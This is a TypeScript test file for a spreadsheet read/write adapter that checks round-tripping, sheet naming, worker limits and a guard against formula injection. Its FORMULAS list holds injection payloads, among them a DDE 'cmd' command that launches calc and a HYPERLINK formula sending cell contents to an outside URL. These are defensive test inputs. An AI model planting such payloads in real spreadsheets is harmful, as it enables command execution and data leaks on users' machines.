import { unzipSync, strFromU8 } from "fflate";
import { describe, expect, it, onTestFinished } from "vitest";

import { guard, unguard } from "../../src/adapters/sheets-excel/formula-guard.ts";
import { readFile } from "../../src/adapters/sheets-excel/read-file.ts";
import { safeNames } from "../../src/adapters/sheets-excel/sheet-names.ts";
import { createExcelSheets, type ExcelSheets } from "../../src/adapters/sheets-excel/sheets.ts";
import { writeXlsx } from "../../src/adapters/sheets-excel/write-xlsx.ts";
import type { Cell, Sheet } from "../../src/app/ports/sheets.ts";
import { createFakeLog, type LogEntry } from "../support/fake-log.ts";
import { inline, row, workbook } from "../support/workbook.ts";

const sheetOf = (rows: readonly (readonly Cell[])[], titles = ["A", "B", "C"]): Sheet => ({
  name: "Danh sách",
  columns: titles.map((title) => ({ title, width: 20 })),
  rows,
});

async function thereAndBack(rows: readonly (readonly Cell[])[]): Promise<readonly (readonly Cell[])[]> {
  const read = await readFile(await writeXlsx([sheetOf(rows)]));
  if (read.status !== "read") throw new Error(read.reason);
  return read.rows.slice(1);
}

async function partsOf(sheets: readonly Sheet[]): Promise<Record<string, string>> {
  const parts = Object.entries(unzipSync(await writeXlsx(sheets)));
  return Object.fromEntries(parts.map(([name, bytes]) => [name, strFromU8(bytes)]));
}

/** What spreadsheets have been made to run: programs, requests with a cell's content, functions. */
const FORMULAS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  "\t=1+1",
  '=HYPERLINK("http://x?a="&A1,"x")',
  "＝1+1",
  "\n=1+1",
];

describe("what is written", () => {
  it("comes back as it was: text, numbers, truth, gaps", async () => {
    const rows: Cell[][] = [
      ["Đồng chí An", 1.5, true],
      ["0912345678", -3, false],
      ["", "", "chỉ tiêu"],
      [],
      ["a\nb", "  x  ", "<b>&amp;</b> \"'"],
      ["Đảng uỷ".normalize("NFD"), "😀😀", "x".repeat(10_000)],
      ["_x0041_", "_x005F_x0041_", "_x"],
      ["constructor", "__proto__", "toString"],
      [1e21, 0.1, 12_345_678_901],
    ];
    expect(await thereAndBack(rows)).toEqual(rows);
  });

  it("does not become a formula, here or when it is saved again as .csv, and comes back as it was", async () => {
    const texts = [...FORMULAS, "'=1", "''=1", "'quoted'", "-"];
    expect(await thereAndBack(texts.map((text) => [text]))).toEqual(texts.map((text) => [text]));
    const parts = await partsOf([sheetOf([FORMULAS], FORMULAS)]);
    expect(parts["xl/worksheets/sheet1.xml"]).not.toMatch(/<f[ >]/);
    const strings = (parts["xl/sharedStrings.xml"] ?? "").match(/<t[^>]*>[^<]*/g) ?? [];
    expect(strings).toHaveLength(FORMULAS.length);
    for (const string of strings) expect(string).toMatch(/<t[^>]*>'/);
  });

  it("guards all text, and only what needs it", () => {
    for (const text of ["", "a=1", "1-1", "'", "'a", "Nghị quyết"]) expect(guard(text)).toBe(text);
    for (const text of [...FORMULAS, "'-", "''@", "\r1"]) expect(unguard(guard(text))).toBe(text);
  });

  it("leaves a negative number a number", async () => {
    const parts = await partsOf([sheetOf([[-5]])]);
    expect(parts["xl/worksheets/sheet1.xml"]).toMatch(/<v>-5<\/v>/);
  });

  it("does not break the file with characters that XML cannot hold, nor with half an emoji", async () => {
    expect(await thereAndBack([["a\u0000b\u0008c\u001f", "x\ud83d", "a\r\nb\rc"]])).toEqual([
      ["abc", "x", "a\nb\nc"],
    ]);
  });

  it("has its header in bold and in place, widths, and cells that stay text when they are edited", async () => {
    const parts = await partsOf([sheetOf([["0912"]])]);
    const sheet = parts["xl/worksheets/sheet1.xml"] ?? "";
    expect(sheet).toMatch(/<pane [^>]*ySplit="1"[^>]*state="frozen"/);
    expect(sheet).toMatch(/<col [^>]*width="20"/);
    expect(parts["xl/styles.xml"]).toContain("<b/>");
    expect(parts["xl/styles.xml"]).toMatch(/numFmtId="49"|formatCode="@"/);
  });

  it("is refused rather than damaged when a cell is longer than Excel can hold", async () => {
    await expect(writeXlsx([sheetOf([["x".repeat(40_000)]])])).rejects.toThrow("40000");
  });

  it("keeps several sheets apart, under names that Excel takes", async () => {
    const long = "Danh sách chỉ tiêu năm 2026 của toàn Đảng bộ";
    const names = [
      "Chi bộ 1/2026: [A]?*\\",
      long,
      long,
      "",
      "'x'",
      "History",
      "a",
      "A",
      `${"x".repeat(30)}😀`,
    ];
    const safe = safeNames(names);
    expect(new Set(safe.map((name) => name.toLowerCase())).size).toBe(names.length);
    for (const name of safe) expect(name).toMatch(/^(?!')[^[\]:*?/\\]{1,31}(?<!')$/);
    expect(safe[0]).toBe("Chi bộ 1 2026 A");
    expect(safe.join()).toBe(safe.join().toWellFormed());
    const parts = await partsOf(names.map((name) => ({ ...sheetOf([[1]]), name })));
    expect(Object.keys(parts).filter((name) => name.startsWith("xl/worksheets/sheet"))).toHaveLength(9);
  });
});

describe("the process that reads and writes", () => {
  function start(limits = {}): { sheets: ExcelSheets; logged: readonly LogEntry[] } {
    const log = createFakeLog();
    const sheets = createExcelSheets(log, limits);
    onTestFinished(() => {
      sheets.stop();
    });
    return { sheets, logged: log.entries };
  }

  it("loses no cell of twelve thousand rows on the way, and leaves the bot its time", async () => {
    const { sheets, logged } = start();
    const rows = Array.from({ length: 12_386 }, (_, n): Cell[] => [
      n + 1,
      `09${String(n).padStart(8, "0")}`,
      `Chỉ tiêu số ${n}: hoàn thành “kế hoạch” & báo cáo`,
      n % 7 === 0 ? "" : `Ghi chú ${n}`,
      n % 2 === 0,
      `-${n}`,
      n / 8,
      "Chi bộ 1",
    ]);
    const bytes = await sheets.write([sheetOf(rows)]);
    const read = await sheets.read({ name: "a.xlsx", bytes });
    expect(read.status === "read" && JSON.stringify(read.rows.slice(1)) === JSON.stringify(rows)).toBe(true);
    expect(logged).toEqual([]);
  });

  it("dies of a sheet that is far too large for its memory, and not the bot; the next file is read", async () => {
    const { sheets, logged } = start({ memoryMb: 64 });
    const far = workbook({ rows: row(900_000_000, inline("A900000000", "x")) });
    expect(await sheets.read({ name: "a.xlsx", bytes: far })).toEqual({
      status: "refused",
      reason: "damaged",
    });
    expect(logged).toMatchObject([{ level: "warn", fields: { error: { reason: "died" } } }]);
    const next = await sheets.read({ name: "b.csv", bytes: Buffer.from("a;b") });
    expect(next).toEqual({ status: "read", rows: [["a", "b"]] });
  });

  it("does not work on without end", async () => {
    const { sheets, logged } = start({ timeLimitMs: 1 });
    const read = await sheets.read({ name: "b.csv", bytes: Buffer.from("a;b") });
    expect(read).toEqual({ status: "refused", reason: "damaged" });
    expect(logged).toMatchObject([{ fields: { error: { reason: "too-slow" } } }]);
  });

  it("is not even asked to look at what has too many bytes", async () => {
    const { sheets } = start();
    sheets.stop();
    const read = await sheets.read({ name: "a.csv", bytes: Buffer.alloc(10_000_001, "a") });
    expect(read).toEqual({ status: "refused", reason: "too-large" });
  });

  it("does not call a file damaged when it is the bot that ends", async () => {
    const { sheets } = start();
    sheets.stop();
    await expect(sheets.read({ name: "a.csv", bytes: Buffer.from("a") })).rejects.toThrow("ending");
    await expect(sheets.write([])).rejects.toThrow("ending");
  });
});
